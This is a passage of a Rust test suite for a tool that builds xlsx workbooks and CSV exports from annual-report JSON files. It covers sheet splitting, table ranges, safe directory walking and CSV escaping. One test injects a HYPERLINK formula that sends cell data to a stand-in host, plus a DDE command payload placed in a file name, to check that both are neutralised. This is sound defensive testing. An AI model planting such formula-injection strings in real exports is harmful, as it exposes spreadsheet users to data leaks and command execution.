            .count();
        assert_eq!(n, 1);
        assert!(!c.xlsx().unwrap().is_empty());
        assert_eq!(c.xlsx().unwrap(), c.xlsx().unwrap());
        // The pipelined path gives the same bytes and findings.
        let (c2, bytes) = collect_workbook(&[
            PathBuf::from("examples/demo-city-2024.json"),
            PathBuf::from("examples/demo-2019.json"),
            PathBuf::from("examples/does-not-exist.json"),
        ])
        .unwrap();
        assert_eq!(bytes, c.xlsx().unwrap());
        assert_eq!(c2.entries[1].findings, c.entries[1].findings);
        assert!(!c.entries[1].findings.is_empty());
    }

    fn examples() -> Vec<PathBuf> {
        vec![
            PathBuf::from("examples/demo-city-2024.json"),
            PathBuf::from("examples/demo-2019.json"),
        ]
    }

    /// Sheet names and each sheet's table range, from the workbook's XML.
    fn sheets(bytes: &[u8]) -> Vec<(String, String)> {
        use std::io::Read;
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut read = |name: &str| {
            let mut s = String::new();
            zip.by_name(name).unwrap().read_to_string(&mut s).unwrap();
            s
        };
        let wb = read("xl/workbook.xml");
        let names: Vec<String> = wb
            .split("<sheet name=\"")
            .skip(1)
            .map(|x| x[..x.find('"').unwrap()].to_string())
            .collect();
        let mut out = Vec::new();
        let mut table = 1;
        for (i, n) in names.iter().enumerate() {
            let refs = if i == 0 {
                String::new()
            } else {
                let t = read(&format!("xl/tables/table{table}.xml"));
                table += 1;
                let at = t.find(" ref=\"").unwrap() + 6;
                t[at..at + t[at..].find('"').unwrap()].to_string()
            };
            out.push((n.clone(), refs));
        }
        out
    }

    #[test]
    fn long_sheets_continue_on_numbered_sheets_without_losing_a_row() {
        let c = collect(&examples());
        let cells: usize = c.entries.iter().map(|e| e.cells.len()).sum();
        let findings: usize = c.entries.iter().map(|e| e.findings.len()).sum();
        assert!(
            cells > 300 && findings >= 3,
            "{cells} cells, {findings} findings"
        );
        let per = 100u32;
        let bytes = c.write_xlsx(per).unwrap();
        let got = sheets(&bytes);
        let long: Vec<&(String, String)> =
            got.iter().filter(|(n, _)| n.starts_with("长表")).collect();
        assert_eq!(long.len(), cells.div_ceil(per as usize), "{got:?}");
        assert_eq!(long[0].0, "长表");
        assert_eq!(long[1].0, "长表2");
        // Every part but the last is full; the rows add up to every cell exactly once.
        let rows = |r: &str| -> usize {
            let end = r.split(':').nth(1).unwrap();
            end.trim_start_matches(|c: char| c.is_ascii_alphabetic())
                .parse::<usize>()
                .unwrap()
                - 1
        };
        let total: usize = long.iter().map(|(_, r)| rows(r)).sum();
        assert_eq!(total, cells);
        assert_eq!(long[0].1, format!("A1:O{}", per + 1));
        // Order: 汇总, 长表…, 校验…, 未读入.
        let order: Vec<&str> = got.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(order[0], "汇总");
        assert_eq!(*order.last().unwrap(), "未读入");
        // Findings split the same way at a smaller limit.
        let bytes = c.write_xlsx(2).unwrap();
        let got = sheets(&bytes);
        let checks = got.iter().filter(|(n, _)| n.starts_with("校验")).count();
        assert_eq!(checks, findings.div_ceil(2));
        // The pipelined path splits identically.
        let mut c2 = read_all(&examples(), false);
        assert_eq!(
            c2.validate_and_write(per).unwrap(),
            c.write_xlsx(per).unwrap()
        );
        // Under the limit nothing changes: one sheet each.
        let names: Vec<String> = sheets(&c.xlsx().unwrap())
            .into_iter()
            .map(|x| x.0)
            .collect();
        assert_eq!(names, ["汇总", "长表", "校验", "考核", "重复", "未读入"]);
    }

    #[test]
    fn the_long_tables_range_set_after_saving_gives_the_same_bytes() {
        let c = collect(&examples());
        let cells: usize = c.entries.iter().map(|e| e.cells.len()).sum();
        for per in [SHEET_ROWS, 100, 2] {
            let deferred = c.write_xlsx_ranged(per, true).unwrap();
            let declared = c.write_xlsx_ranged(per, false).unwrap();
            assert!(deferred == declared, "{per} rows a sheet: the bytes differ");
        }
        // The range really was declared short and set afterwards.
        let s = Styles::new();
        let mut wb = c.workbook().unwrap();
        let mut ranges = Vec::new();
        write_long(&c.entries, &mut wb, SHEET_ROWS, Some(&mut ranges)).unwrap();
        c.write_rest(&mut wb, &s, SHEET_ROWS).unwrap();
        assert_eq!(
            ranges,
            [TableRange {
                table: "collected_data".into(),
                declared: "A1:O2".into(),
                real: format!("A1:O{}", cells + 1),
            }]
        );
        let mut bytes = wb.save_to_buffer().unwrap();
        assert!(bytes != c.xlsx().unwrap());
        set_table_range(&mut bytes, 0, &ranges[0]).unwrap();
        assert!(bytes == c.xlsx().unwrap());
        // A table that is not there is an error, not a silent pass.
        let missing = TableRange {
            table: "no_such_table".into(),
            ..ranges[0].clone()
        };
        assert!(set_table_range(&mut bytes, 0, &missing).is_err());
    }

    #[test]
    fn the_walk_reads_regular_files_once_and_lists_what_it_ignored() {
        let dir = std::env::temp_dir().join(format!("nianbao-walk-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("sub")).unwrap();
        std::fs::copy("examples/demo-2019.json", dir.join("a.json")).unwrap();
        std::os::unix::fs::symlink(dir.join("a.json"), dir.join("sub/link.json")).unwrap();
        std::os::unix::fs::symlink("..", dir.join("sub/up")).unwrap();
        std::os::unix::fs::symlink(".", dir.join("self")).unwrap();
        std::os::unix::fs::symlink("nowhere.json", dir.join("dangling.json")).unwrap();
        let fifo = dir.join("pipe.json");
        let made = std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap();
        assert!(made.success());
        let found = expand_inputs(std::slice::from_ref(&dir));
        assert_eq!(found.files, vec![dir.join("a.json")]);
        let ignored: Vec<&str> = found.ignored.iter().map(|s| s.file.as_str()).collect();
        for name in ["pipe.json", "self", "sub/link.json", "sub/up"] {
            let p = dir.join(name);
            assert!(
                ignored.contains(&p.to_str().unwrap()),
                "{name}: {ignored:?}"
            );
        }
        assert_eq!(found.skipped.len(), 1, "{:?}", found.skipped);
        assert!(found.skipped[0].file.ends_with("dangling.json"));
        // The same file named twice on the command line is read once.
        let twice = expand_inputs(&[dir.join("a.json"), dir.join("sub/link.json")]);
        assert_eq!(twice.files.len(), 1);
        assert_eq!(twice.ignored.len(), 1);
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn csv_fields_cannot_become_formulas() {
        let mut c = collect(&examples());
        c.entries[0].report.agency = "=HYPERLINK(\"http://x/?\"&A1,\"x\")".into();
        c.entries[1].file = "@cmd|' /C calc'!A0.json".into();
        let wide = c.wide_csv();
        assert!(
            wide.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\""),
            "{wide}"
        );
        assert!(wide.contains("'@cmd|"), "{wide}");
        let long = c.long_csv();
        assert!(long.contains("'=HYPERLINK"));
        // 2019's 本年增/减 is negative in the demo and stays a number.
        assert!(long.contains(",-15\r\n"), "{long}");
        assert!(!long.contains(",'-"), "a negative number was neutralised");
    }
}
